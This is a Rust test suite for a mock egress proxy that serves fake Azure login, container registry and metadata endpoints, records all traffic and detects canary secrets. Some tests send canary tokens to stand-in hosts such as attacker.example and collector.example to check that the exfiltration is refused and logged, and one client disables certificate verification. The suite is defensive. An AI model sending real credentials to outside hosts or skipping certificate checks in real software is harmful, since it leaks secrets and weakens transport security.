//! The front door with real clients: reqwest in-process, `curl`, and Python `requests` from the
//! pinned venv, each trusting only the run's CA, reaching test fakes at real-looking names; unknown
//! destinations refused and recorded; faults; direct listeners; graceful shutdown.

use std::process::Command;
use std::time::{Duration, Instant};

use axum::extract::Request;
use axum::routing::any;
use axum::{Json, Router};
use mock_kit::egress::{Outcome, Refusal};
use mock_kit::fault::{FaultAction, FaultRule};
use mock_kit::site::{Scheme, Via};
use mock_kit::{FrontDoor, RequestContext, SecretRegistry, Site};
use serde_json::{Value, json};

/// A fake that answers every request with what it saw.
fn echo(site: &'static str) -> Router {
    Router::new().fallback(any(move |req: Request| async move {
        let ctx = req.extensions().get::<RequestContext>().cloned();
        let auth = req
            .headers()
            .get("authorization")
            .map(|v| v.to_str().unwrap_or_default().to_owned());
        let proxy_auth = req.headers().get("proxy-authorization").is_some();
        if req.uri().path() == "/slow" {
            tokio::time::sleep(Duration::from_millis(300)).await;
        }
        Json(json!({
            "site": site,
            "method": req.method().as_str(),
            "path": req.uri().path(),
            "host": ctx.as_ref().map(|c| c.host.clone()),
            "scheme": ctx.as_ref().map(|c| c.scheme.as_str()),
            "label": ctx.as_ref().and_then(|c| c.client.label.clone()),
            "authorization": auth,
            "proxyAuthorizationLeaked": proxy_auth,
        }))
    }))
}

struct World {
    door: FrontDoor,
    secrets: SecretRegistry,
    _dir: tempfile::TempDir,
    ca_file: std::path::PathBuf,
}

async fn world() -> World {
    let secrets = SecretRegistry::new();
    let door = FrontDoor::builder()
        .secrets(secrets.clone())
        .start()
        .await
        .unwrap();
    door.add_site(Site::new("test-entra", echo("test-entra")).host("login.microsoftonline.com"))
        .await
        .unwrap();
    door.add_site(Site::new("test-acr", echo("test-acr")).host("*.azurecr.io"))
        .await
        .unwrap();
    door.add_site(
        Site::new("test-imds", echo("test-imds"))
            .host("169.254.169.254")
            .plain_http_only(),
    )
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let ca_file = dir.path().join("ca.pem");
    std::fs::write(&ca_file, door.ca().cert_pem()).unwrap();
    World {
        door,
        secrets,
        _dir: dir,
        ca_file,
    }
}

fn client(door: &FrontDoor, proxy: &str) -> reqwest::Client {
    mock_kit::install_crypto_provider();
    reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(proxy).unwrap())
        .tls_certs_only([reqwest::Certificate::from_pem(door.ca().cert_pem().as_bytes()).unwrap()])
        .build()
        .unwrap()
}

#[tokio::test]
async fn reqwest_reaches_fakes_by_real_names_and_everything_is_recorded() {
    let w = world().await;
    let http = client(&w.door, &w.door.proxy_url_for("shard-a"));

    let entra: Value = http
        .get("https://login.microsoftonline.com/contoso/v2.0/.well-known/openid-configuration")
        .send()
        .await
        .unwrap()
        .error_for_status()
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(entra["site"], "test-entra");
    assert_eq!(entra["scheme"], "https");
    assert_eq!(entra["label"], "shard-a");
    assert_eq!(entra["proxyAuthorizationLeaked"], false);

    let acr: Value = http
        .get("https://MyReg.azurecr.io/v2/")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(acr["site"], "test-acr");
    assert_eq!(acr["host"], "myreg.azurecr.io");

    let imds: Value = http
        .get("http://169.254.169.254/metadata/identity/oauth2/token?resource=x")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(imds["site"], "test-imds");
    assert_eq!(imds["scheme"], "http");

    let record = w.door.egress().snapshot();
    assert_eq!(record.len(), 3, "{record:#?}");
    assert_eq!(record[0].host, "login.microsoftonline.com");
    assert_eq!(record[0].port, 443);
    assert_eq!(record[0].scheme, Scheme::Https);
    assert_eq!(record[0].via, Via::FrontDoor);
    assert_eq!(record[0].method, "GET");
    assert_eq!(
        record[0].path,
        "/contoso/v2.0/.well-known/openid-configuration"
    );
    assert_eq!(record[0].status, 200);
    assert_eq!(record[0].client.label.as_deref(), Some("shard-a"));
    assert_eq!(
        record[0].outcome,
        Outcome::Served {
            site: "test-entra".into()
        }
    );
    assert_eq!(record[1].host, "myreg.azurecr.io");
    assert_eq!(record[2].scheme, Scheme::Http);
    assert_eq!(record[2].port, 80);
    assert_eq!(record[2].path, "/metadata/identity/oauth2/token?resource=x");
}

#[tokio::test]
async fn unknown_destinations_are_refused_recorded_with_the_secrets_they_carried() {
    let w = world().await;
    let (token, fingerprint) = w
        .secrets
        .register(
            mock_kit::SecretKind::EntraAccessToken,
            "contoso/project-a",
            "canary-token-0123456789",
        )
        .unwrap();
    let http = client(&w.door, &w.door.proxy_url());

    let resp = http
        .get("https://attacker.example/x.azurecr.io/v2/")
        .bearer_auth(token.expose())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 502);
    assert_eq!(resp.headers()["x-credsim-refused"], "unknown-host");
    let body = resp.text().await.unwrap();
    assert!(
        body.contains("no fake serves attacker.example:443"),
        "{body}"
    );

    // The same secret inside HTTP Basic credentials and in a form body is found too.
    let resp = http
        .post("http://example.com/upload")
        .basic_auth("00000000-0000-0000-0000-000000000000", Some(token.expose()))
        .body(format!("grant=x&secret={}", token.expose()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 502);

    // A downgrade to plain http for an https-only fake is refused too.
    let resp = http
        .get("http://login.microsoftonline.com/contoso/oauth2/v2.0/token")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
    assert_eq!(resp.headers()["x-credsim-refused"], "plain-http-not-served");

    let record = w.door.egress().snapshot();
    assert_eq!(record.len(), 3);
    assert_eq!(record[0].host, "attacker.example");
    assert_eq!(record[0].path, "/x.azurecr.io/v2/");
    assert_eq!(
        record[0].outcome,
        Outcome::Refused {
            reason: Refusal::UnknownHost
        }
    );
    assert!(record[0].carried(&fingerprint));
    assert_eq!(record[0].secrets[0].location, "header:authorization");
    assert_eq!(record[0].secrets[0].label, "contoso/project-a");
    assert_eq!(record[1].host, "example.com");
    assert_eq!(record[1].secrets.len(), 1, "found once, however often");
    assert_eq!(record[1].secrets[0].location, "basic:authorization");
    assert_eq!(
        record[2].outcome,
        Outcome::Refused {
            reason: Refusal::PlainHttpNotServed
        }
    );
    // The record never holds the raw value.
    let serialized = serde_json::to_string(&record).unwrap();
    assert!(!serialized.contains(token.expose()));
}

#[tokio::test]
async fn a_client_that_does_not_trust_the_ca_gets_nothing_and_is_recorded() {
    let w = world().await;
    mock_kit::install_crypto_provider();
    let other_ca = mock_kit::CertificateAuthority::new("someone else").unwrap();
    let http = reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(w.door.proxy_url()).unwrap())
        .tls_certs_only([reqwest::Certificate::from_pem(other_ca.cert_pem().as_bytes()).unwrap()])
        .build()
        .unwrap();
    let err = http
        .get("https://login.microsoftonline.com/")
        .send()
        .await
        .unwrap_err();
    assert!(err.is_connect() || err.is_request(), "{err:?}");
    let rec = w
        .door
        .egress()
        .wait_for(|r| r.method == "CONNECT", Duration::from_secs(5))
        .await
        .expect("the failed handshake is recorded");
    assert_eq!(rec.host, "login.microsoftonline.com");
    assert_eq!(
        rec.outcome,
        Outcome::Refused {
            reason: Refusal::TlsHandshakeFailed
        }
    );
}

#[tokio::test]
async fn faults_answer_delay_and_drop_then_the_fake_recovers() {
    let w = world().await;
    let http = client(&w.door, &w.door.proxy_url());
    let url = "https://login.microsoftonline.com/contoso/oauth2/v2.0/token";
    let id = w.door.faults().inject(
        FaultRule::on_site(
            "test-entra",
            FaultAction::Respond {
                status: 503,
                headers: vec![("retry-after".into(), "0".into())],
                body: "try later".into(),
            },
        )
        .path_prefix("/contoso/oauth2/")
        .times(2),
    );
    for _ in 0..2 {
        let resp = http.post(url).send().await.unwrap();
        assert_eq!(resp.status(), 503);
        assert_eq!(resp.headers()["retry-after"], "0");
        assert_eq!(resp.text().await.unwrap(), "try later");
    }
    assert_eq!(http.post(url).send().await.unwrap().status(), 200);
    let record = w.door.egress().snapshot();
    assert_eq!(record[0].outcome, Outcome::Faulted { fault: id });
    assert_eq!(
        record[2].outcome,
        Outcome::Served {
            site: "test-entra".into()
        }
    );

    let drop = w
        .door
        .faults()
        .inject(FaultRule::on_site("test-entra", FaultAction::DropConnection).times(1));
    let err = http.post(url).send().await.unwrap_err();
    assert!(err.is_request() || err.is_connect(), "{err:?}");
    assert_eq!(
        w.door.egress().snapshot().last().unwrap().outcome,
        Outcome::Dropped { fault: drop }
    );

    w.door.faults().inject(
        FaultRule::on_site(
            "test-entra",
            FaultAction::Delay {
                by: Duration::from_millis(250),
            },
        )
        .times(1),
    );
    let started = Instant::now();
    assert_eq!(http.post(url).send().await.unwrap().status(), 200);
    assert!(started.elapsed() >= Duration::from_millis(250));
}

#[tokio::test]
async fn direct_listeners_serve_h2_with_the_same_record() {
    let w = world().await;
    let endpoint = w.door.endpoint("test-entra").unwrap();
    assert!(endpoint.direct_url.starts_with("https://127.0.0.1:"));
    mock_kit::install_crypto_provider();
    let http = reqwest::Client::builder()
        .no_proxy()
        .tls_certs_only([
            reqwest::Certificate::from_pem(w.door.ca().cert_pem().as_bytes()).unwrap(),
        ])
        .build()
        .unwrap();
    let resp = http
        .get(format!("{}/common/discovery/instance", endpoint.direct_url))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.version(), reqwest::Version::HTTP_2);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["site"], "test-entra");
    // The certificate also names the site's real host, for clients that set a TLS server name.
    let by_name = reqwest::Client::builder()
        .no_proxy()
        .resolve("login.microsoftonline.com", endpoint.direct_addr)
        .tls_certs_only([
            reqwest::Certificate::from_pem(w.door.ca().cert_pem().as_bytes()).unwrap(),
        ])
        .build()
        .unwrap();
    let url = format!(
        "https://login.microsoftonline.com:{}/x",
        endpoint.direct_addr.port()
    );
    assert_eq!(by_name.get(url).send().await.unwrap().status(), 200);

    let imds = w.door.endpoint("test-imds").unwrap();
    assert!(imds.direct_url.starts_with("http://127.0.0.1:"));
    let body: Value = http
        .get(format!("{}/metadata/instance", imds.direct_url))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(body["site"], "test-imds");

    let record = w.door.egress().snapshot();
    assert_eq!(record.len(), 3);
    assert!(record.iter().all(|r| r.via == Via::Direct));
    assert_eq!(record[0].host, "127.0.0.1");
}

#[tokio::test]
async fn removed_sites_become_unknown() {
    let w = world().await;
    let http = client(&w.door, &w.door.proxy_url());
    assert!(w.door.remove_site("test-acr"));
    assert!(!w.door.remove_site("test-acr"));
    let resp = http
        .get("https://myreg.azurecr.io/v2/")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 502);
    assert!(w.door.endpoint("test-acr").is_none());
}

#[tokio::test]
async fn shutdown_finishes_in_flight_requests_then_nothing_listens() {
    let w = world().await;
    let http = client(&w.door, &w.door.proxy_url());
    let proxy = w.door.proxy_addr();
    let direct = w.door.endpoint("test-entra").unwrap().direct_addr;
    // Warm the tunnel so the slow request is in flight when shutdown starts.
    http.get("https://login.microsoftonline.com/warm")
        .send()
        .await
        .unwrap();
    let slow = tokio::spawn({
        let http = http.clone();
        async move {
            http.get("https://login.microsoftonline.com/slow")
                .send()
                .await
                .map(|r| r.status())
        }
    });
    tokio::time::sleep(Duration::from_millis(100)).await;
    w.door.shutdown().await;
    assert_eq!(slow.await.unwrap().unwrap(), 200);
    for addr in [proxy, direct] {
        assert!(
            tokio::net::TcpStream::connect(addr).await.is_err(),
            "{addr} still accepts connections"
        );
    }
}

#[tokio::test]
async fn the_proxy_port_describes_itself_and_rejects_origin_requests() {
    let w = world().await;
    let http = reqwest::Client::builder().no_proxy().build().unwrap();
    let page: Value = http
        .get(format!("{}/", w.door.proxy_url()))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    insta::assert_json_snapshot!("status_page", page);
    let resp = http
        .get(format!("{}/other", w.door.proxy_url()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
}

#[tokio::test]
async fn egress_record_format() {
    let w = world().await;
    let (token, _) = w
        .secrets
        .register(
            mock_kit::SecretKind::AcrRefreshToken,
            "contosoacr",
            "canary-refresh-0123456789",
        )
        .unwrap();
    let http = client(&w.door, &w.door.proxy_url_for("shard-b"));
    http.post("https://contosoacr.azurecr.io/oauth2/token")
        .form(&[
            ("grant_type", "refresh_token"),
            ("refresh_token", token.expose()),
        ])
        .send()
        .await
        .unwrap();
    let record = w.door.egress().snapshot();
    insta::assert_json_snapshot!("egress_record", record, {
        "[].at" => "[time]",
        "[].wall" => "[time]",
        "[].client.addr" => "[addr]",
    });
}

// ---- unmodified external clients -------------------------------------------------------------

/// The standard variables a client is pointed at the front door with.
fn proxy_env(w: &World) -> Vec<(String, String)> {
    w.door.client_env(None, &w.ca_file)
}

#[tokio::test]
async fn curl_reaches_the_fakes_with_only_the_standard_variables() {
    let w = world().await;
    let env = proxy_env(&w);
    let run = |url: &'static str| {
        let env = env.clone();
        tokio::task::spawn_blocking(move || {
            let out = Command::new("curl")
                .args(["-sS", "-w", "\n%{http_code}", url])
                .env_clear()
                .env("PATH", std::env::var("PATH").unwrap_or_default())
                .envs(env)
                .output()
                .expect("curl runs");
            (
                String::from_utf8_lossy(&out.stdout).into_owned(),
                String::from_utf8_lossy(&out.stderr).into_owned(),
            )
        })
    };
    let (out, err) =
        run("https://login.microsoftonline.com/contoso/v2.0/.well-known/openid-configuration")
            .await
            .unwrap();
    assert!(out.ends_with("\n200"), "{out}\n{err}");
    assert!(out.contains(r#""site":"test-entra""#), "{out}");
    let (out, _) = run("https://example.com/").await.unwrap();
    assert!(out.ends_with("\n502"), "{out}");
    assert!(out.contains("no fake serves example.com:443"), "{out}");
    let (out, _) = run("http://169.254.169.254/metadata/instance?api-version=2021-02-01")
        .await
        .unwrap();
    assert!(out.ends_with("\n200"), "{out}");

    let hosts: Vec<String> = w
        .door
        .egress()
        .snapshot()
        .into_iter()
        .map(|r| r.host)
        .collect();
    assert_eq!(
        hosts,
        [
            "login.microsoftonline.com",
            "example.com",
            "169.254.169.254"
        ]
    );

    // With an explicit --proxy and --cacert instead of the variables, the same.
    let ca = w.ca_file.clone();
    let proxy = w.door.proxy_url();
    let out = tokio::task::spawn_blocking(move || {
        Command::new("curl")
            .args(["-sS", "--proxy", &proxy, "--cacert"])
            .arg(ca)
            .arg("https://myreg.azurecr.io/v2/")
            .env_remove("HTTPS_PROXY")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(r#""site":"test-acr""#),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[tokio::test]
async fn python_requests_reaches_the_fakes_with_only_the_standard_variables() {
    let python = mock_kit::testing::python().expect("the pinned Python clients");
    let w = world().await;
    let script = r#"
import json, requests
out = {}
r = requests.get("https://login.microsoftonline.com/contoso/v2.0/.well-known/openid-configuration", timeout=10)
out["entra"] = [r.status_code, r.json()["site"]]
r = requests.post("https://contosoacr.azurecr.io/oauth2/exchange", data={"grant_type": "access_token"}, timeout=10)
out["acr"] = [r.status_code, r.json()["host"]]
r = requests.get("http://169.254.169.254/metadata/identity/oauth2/token", headers={"Metadata": "true"}, timeout=10)
out["imds"] = [r.status_code, r.json()["site"]]
r = requests.get("https://example.com/", timeout=10)
out["unknown"] = [r.status_code, r.headers.get("x-credsim-refused")]
print(json.dumps(out))
"#;
    let env = proxy_env(&w);
    let out = tokio::task::spawn_blocking(move || {
        Command::new(python)
            .args(["-c", script])
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .envs(env)
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let got: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        got,
        json!({
            "entra": [200, "test-entra"],
            "acr": [200, "contosoacr.azurecr.io"],
            "imds": [200, "test-imds"],
            "unknown": [502, "unknown-host"],
        })
    );
    let record = w.door.egress().snapshot();
    assert_eq!(record.len(), 4);
    assert!(record[3].refused());
    assert_eq!(record[1].method, "POST");
}

#[tokio::test]
async fn shared_listeners_route_every_site_by_sni_and_host() {
    let w = world().await;
    let tls = w
        .door
        .listen_tls("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    let plain = w
        .door
        .listen_http("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    mock_kit::install_crypto_provider();
    let http = reqwest::Client::builder()
        .no_proxy()
        .resolve("login.microsoftonline.com", tls)
        .resolve("myreg.azurecr.io", tls)
        .resolve("attacker.example", tls)
        .tls_certs_only([
            reqwest::Certificate::from_pem(w.door.ca().cert_pem().as_bytes()).unwrap(),
        ])
        .build()
        .unwrap();
    let get = |url: String| {
        let http = http.clone();
        async move { http.get(url).send().await.unwrap() }
    };
    let entra: Value = get(format!(
        "https://login.microsoftonline.com:{}/x",
        tls.port()
    ))
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(entra["site"], "test-entra");
    let acr: Value = get(format!("https://myreg.azurecr.io:{}/v2/", tls.port()))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(acr["site"], "test-acr");
    assert_eq!(acr["host"], "myreg.azurecr.io");
    let refused = get(format!("https://attacker.example:{}/", tls.port())).await;
    assert_eq!(refused.status(), 502);
    // IP literals are never resolved, so name the host in the header (as a netns client would
    // reach 169.254.169.254:80 on this listener).
    let imds: Value = http
        .get(format!(
            "http://127.0.0.1:{}/metadata/instance",
            plain.port()
        ))
        .header("host", "169.254.169.254")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(imds["site"], "test-imds");
    // Plain HTTP to an https-only site on the shared plain listener is a refused downgrade.
    let downgrade = http
        .get(format!("http://127.0.0.1:{}/", plain.port()))
        .header("host", "login.microsoftonline.com")
        .send()
        .await
        .unwrap();
    assert_eq!(downgrade.status(), 403);
    w.door.shutdown().await;
    assert!(tokio::net::TcpStream::connect(tls).await.is_err());
    assert!(tokio::net::TcpStream::connect(plain).await.is_err());
}

#[tokio::test]
async fn direct_urls_work_through_the_proxy_too() {
    // A client handed a site's direct URL (AZURE_POD_IDENTITY_AUTHORITY_HOST) and a proxy with an
    // empty NO_PROXY sends the request to the front door, which finds the site by its port.
    let w = world().await;
    let http = client(&w.door, &w.door.proxy_url());
    let imds = w.door.endpoint("test-imds").unwrap();
    let body: Value = http
        .get(format!(
            "{}/metadata/identity/oauth2/token",
            imds.direct_url
        ))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(body["site"], "test-imds");
    let entra = w.door.endpoint("test-entra").unwrap();
    let body: Value = http
        .get(format!("{}/x", entra.direct_url))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(body["site"], "test-entra");
    let rec = w.door.egress().snapshot();
    assert_eq!(rec[0].via, Via::FrontDoor);
    assert_eq!(rec[0].host, "127.0.0.1");
    // A loopback port no site listens on is still refused.
    let resp = http.get("http://127.0.0.1:9/").send().await.unwrap();
    assert_eq!(resp.status(), 502);
}

#[tokio::test]
async fn flawed_certificates_are_refused_by_verifying_clients_and_marked_when_accepted() {
    use mock_kit::fault::{CertificateFlaw, FaultMatch};
    let w = world().await;
    for flaw in [
        CertificateFlaw::UntrustedIssuer,
        CertificateFlaw::WrongHost,
        CertificateFlaw::Expired,
    ] {
        w.door.faults().inject(FaultRule {
            matches: FaultMatch {
                host: Some("login.microsoftonline.com".into()),
                client: Some("iut/".into()),
                ..FaultMatch::default()
            },
            action: FaultAction::BadCertificate { flaw },
            remaining: Some(2),
        });
        // A verifying client refuses the certificate: nothing is sent, the refusal is recorded
        // with the flaw.
        let before = w.door.egress().len();
        let err = client(&w.door, &w.door.proxy_url_for("iut/shard-a"))
            .get("https://login.microsoftonline.com/verifying")
            .send()
            .await
            .unwrap_err();
        assert!(err.is_connect() || err.is_request(), "{flaw:?}: {err:?}");
        let rec = w
            .door
            .egress()
            .wait_for(
                |r| r.method == "CONNECT" && r.certificate == Some(flaw),
                Duration::from_secs(5),
            )
            .await
            .expect("the refused handshake is recorded");
        assert_eq!(
            rec.outcome,
            Outcome::Refused {
                reason: Refusal::TlsHandshakeFailed
            }
        );
        assert!(w.door.egress().len() > before);
        // A client that verifies nothing goes on; its request is served and marked.
        let insecure = reqwest::Client::builder()
            .proxy(reqwest::Proxy::all(w.door.proxy_url_for("iut/shard-a")).unwrap())
            .tls_danger_accept_invalid_certs(true)
            .build()
            .unwrap();
        let resp = insecure
            .get("https://login.microsoftonline.com/insecure")
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200, "{flaw:?}");
        let rec = w
            .door
            .egress()
            .wait_for(
                |r| r.path == "/insecure" && r.certificate == Some(flaw),
                Duration::from_secs(5),
            )
            .await
            .expect("the accepted connection's request is marked");
        assert_eq!(rec.status, 200);
        // The rule is spent: the next connection gets the right certificate, for a verifying client.
        let ok = client(&w.door, &w.door.proxy_url_for("iut/shard-a"))
            .get("https://login.microsoftonline.com/clean")
            .send()
            .await
            .unwrap();
        assert_eq!(ok.status(), 200, "{flaw:?}");
    }
    // A rule for the implementation's tunnels leaves other clients (the harness's probes) alone.
    w.door.faults().inject(FaultRule {
        matches: FaultMatch {
            host: Some("login.microsoftonline.com".into()),
            client: Some("iut/".into()),
            ..FaultMatch::default()
        },
        action: FaultAction::BadCertificate {
            flaw: CertificateFlaw::Expired,
        },
        remaining: None,
    });
    let ok = client(&w.door, &w.door.proxy_url_for("harness/probe"))
        .get("https://login.microsoftonline.com/probe")
        .send()
        .await
        .unwrap();
    assert_eq!(ok.status(), 200);
    // And a request-level look-up never picks a certificate rule.
    let ok = client(&w.door, &w.door.proxy_url())
        .get("https://contoso.azurecr.io/v2/")
        .send()
        .await
        .unwrap();
    assert_eq!(ok.status(), 200);
}

/// A client that ignores proxies and resolves `names` to `addr`, as a program in the sandbox's
/// network does (there every name and address leads to the adopted listeners).
fn straight_to(w: &World, addr: std::net::SocketAddr, names: &[&str]) -> reqwest::Client {
    let pem = std::fs::read(&w.ca_file).unwrap();
    let mut b = reqwest::Client::builder()
        .no_proxy()
        .tls_certs_only([reqwest::Certificate::from_pem(&pem).unwrap()]);
    for n in names {
        b = b.resolve(n, addr);
    }
    b.build().unwrap()
}

#[tokio::test]
async fn adopted_listeners_serve_direct_connections_by_sni_and_host_labelled_and_recorded() {
    use mock_kit::Adopted;
    let w = world().await;
    let (token, fingerprint) = w
        .secrets
        .register(
            mock_kit::SecretKind::AcrRefreshToken,
            "contosoacr.azurecr.io",
            "canary-refresh-token-0123456789",
        )
        .unwrap();
    let tls = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let plain = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let (tls_addr, plain_addr) = (tls.local_addr().unwrap(), plain.local_addr().unwrap());
    let gateway = w.door.gateway();
    assert_eq!(gateway.loopback()[0], (w.door.proxy_addr(), Adopted::Proxy));
    assert!(
        gateway
            .loopback()
            .iter()
            .any(|(_, a)| *a == Adopted::Site("test-acr".into())),
        "{:?}",
        gateway.loopback()
    );
    let adoption = gateway
        .adopt(
            vec![(tls, Adopted::AnyTls), (plain, Adopted::AnyPlain)],
            Some("iut/shard-a".into()),
        )
        .unwrap();

    // TLS to a fake's name reaches the fake, by SNI, with a certificate for that name.
    let http = straight_to(
        &w,
        tls_addr,
        &["contosoacr.azurecr.io", "collector.example"],
    );
    let resp = http
        .get("https://contosoacr.azurecr.io/v2/")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["site"], "test-acr");
    assert_eq!(body["label"], "iut/shard-a");

    // TLS to a made-up host with a secret in a header: refused, recorded with the secret.
    let resp = http
        .post("https://collector.example/v1/events")
        .bearer_auth(token.expose())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 502);
    assert_eq!(resp.headers()["x-credsim-refused"], "unknown-host");

    // Plain HTTP to IMDS's address reaches IMDS by `Host`.
    let plain_http = straight_to(&w, plain_addr, &[]);
    let resp = plain_http
        .get(format!("http://{plain_addr}/metadata/instance"))
        .header("host", "169.254.169.254")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.json::<Value>().await.unwrap()["site"], "test-imds");

    let record = w.door.egress().snapshot();
    assert_eq!(record.len(), 3, "{record:#?}");
    assert!(record.iter().all(|r| r.via == Via::Intercepted));
    assert!(
        record
            .iter()
            .all(|r| r.client.label.as_deref() == Some("iut/shard-a"))
    );
    assert_eq!(record[1].host, "collector.example");
    assert_eq!(record[1].port, tls_addr.port());
    assert_eq!(
        record[1].outcome,
        Outcome::Refused {
            reason: Refusal::UnknownHost
        }
    );
    assert!(record[1].carried(&fingerprint));
    assert_eq!(record[2].host, "169.254.169.254");

    // Dropping the adoption stops its listeners.
    drop(adoption);
    let mut refused = false;
    for _ in 0..50 {
        if tokio::net::TcpStream::connect(tls_addr).await.is_err() {
            refused = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(refused, "the adopted listener still accepts");
}

#[tokio::test]
async fn certificate_faults_apply_to_direct_connections_and_a_refused_handshake_is_recorded() {
    use mock_kit::Adopted;
    use mock_kit::fault::{CertificateFlaw, FaultMatch};
    let w = world().await;
    let tls = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = tls.local_addr().unwrap();
    let _adoption = w
        .door
        .gateway()
        .adopt(vec![(tls, Adopted::AnyTls)], Some("iut/shard-a".into()))
        .unwrap();
    w.door.faults().inject(FaultRule {
        matches: FaultMatch {
            host: Some("login.microsoftonline.com".into()),
            client: Some("iut/".into()),
            ..FaultMatch::default()
        },
        action: FaultAction::BadCertificate {
            flaw: CertificateFlaw::WrongHost,
        },
        remaining: Some(1),
    });
    let http = straight_to(&w, addr, &["login.microsoftonline.com"]);
    let err = http
        .get("https://login.microsoftonline.com/x")
        .send()
        .await
        .unwrap_err();
    assert!(err.is_connect() || err.is_request(), "{err:?}");
    let rec = w
        .door
        .egress()
        .wait_for(|r| r.method == "CONNECT", Duration::from_secs(5))
        .await
        .expect("the refused handshake is recorded");
    assert_eq!(rec.via, Via::Intercepted);
    assert_eq!(rec.host, "login.microsoftonline.com");
    assert_eq!(rec.certificate, Some(CertificateFlaw::WrongHost));
    assert!(rec.secrets.is_empty());
    // The fault is spent: the next connection gets the right certificate.
    let ok = http
        .get("https://login.microsoftonline.com/x")
        .send()
        .await
        .unwrap();
    assert_eq!(ok.status(), 200);
}

/// The answer of the test fake below when it panics: its own error shape.
fn teapot_error(failure: &mock_kit::InternalFailure<'_>) -> axum::response::Response {
    use axum::response::IntoResponse as _;
    (
        http::StatusCode::INTERNAL_SERVER_ERROR,
        Json(json!({"errors": [{"code": "UNKNOWN", "message": failure.message}]})),
    )
        .into_response()
}

#[tokio::test]
async fn a_panicking_handler_is_answered_in_the_services_shape_recorded_and_the_fake_goes_on() {
    let w = world().await;
    let router = Router::new().fallback(any(|req: Request| async move {
        if req.uri().path() == "/panic" {
            panic!("a test-only route that panics");
        }
        "fine"
    }));
    w.door
        .add_site(
            Site::new("test-panics", router)
                .host("panics.azurecr.io")
                .internal_error(teapot_error),
        )
        .await
        .unwrap();
    let http = client(&w.door, &w.door.proxy_url_for("iut/shard-a"));
    let resp = http
        .get("https://panics.azurecr.io/panic")
        .send()
        .await
        .expect("an answer, not a dropped connection");
    assert_eq!(resp.status(), 500);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["errors"][0]["code"], "UNKNOWN");
    assert!(
        body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("test-panics failed internally on GET /panic"),
        "{body}"
    );
    let resp = http
        .get("https://panics.azurecr.io/after")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.text().await.unwrap(), "fine");
    let record = w.door.egress().snapshot();
    let panicked: Vec<_> = record.iter().filter(|r| r.path == "/panic").collect();
    assert_eq!(panicked.len(), 1, "{record:#?}");
    assert_eq!(
        panicked[0].outcome,
        Outcome::InternalError {
            site: "test-panics".into()
        }
    );
    assert_eq!(panicked[0].status, 500);
}

#[tokio::test]
async fn a_request_that_never_gets_an_answer_is_recorded_with_what_it_carried() {
    let w = world().await;
    let (token, fingerprint) = w
        .secrets
        .register(
            mock_kit::SecretKind::AcrRefreshToken,
            "contosoacr.azurecr.io",
            "canary-unanswered-0123456789",
        )
        .unwrap();
    let router = Router::new().fallback(any(|| async {
        tokio::time::sleep(Duration::from_secs(60)).await;
        "too late"
    }));
    w.door
        .add_site(Site::new("test-slow", router).host("slow.azurecr.io"))
        .await
        .unwrap();
    let pem = std::fs::read(&w.ca_file).unwrap();
    let http = reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(w.door.proxy_url_for("iut/shard-a")).unwrap())
        .tls_certs_only([reqwest::Certificate::from_pem(&pem).unwrap()])
        .timeout(Duration::from_millis(300))
        .build()
        .unwrap();
    let err = http
        .get("https://slow.azurecr.io/v2/")
        .bearer_auth(token.expose())
        .send()
        .await
        .unwrap_err();
    assert!(err.is_timeout(), "{err:?}");
    // The client gave up; once the front door sees the connection gone, the request is there.
    let rec = w
        .door
        .egress()
        .wait_for(|r| r.host == "slow.azurecr.io", Duration::from_secs(10))
        .await
        .expect("the unanswered request is recorded");
    assert_eq!(rec.outcome, Outcome::Unanswered);
    assert_eq!(rec.status, 0);
    assert!(rec.carried(&fingerprint));
}
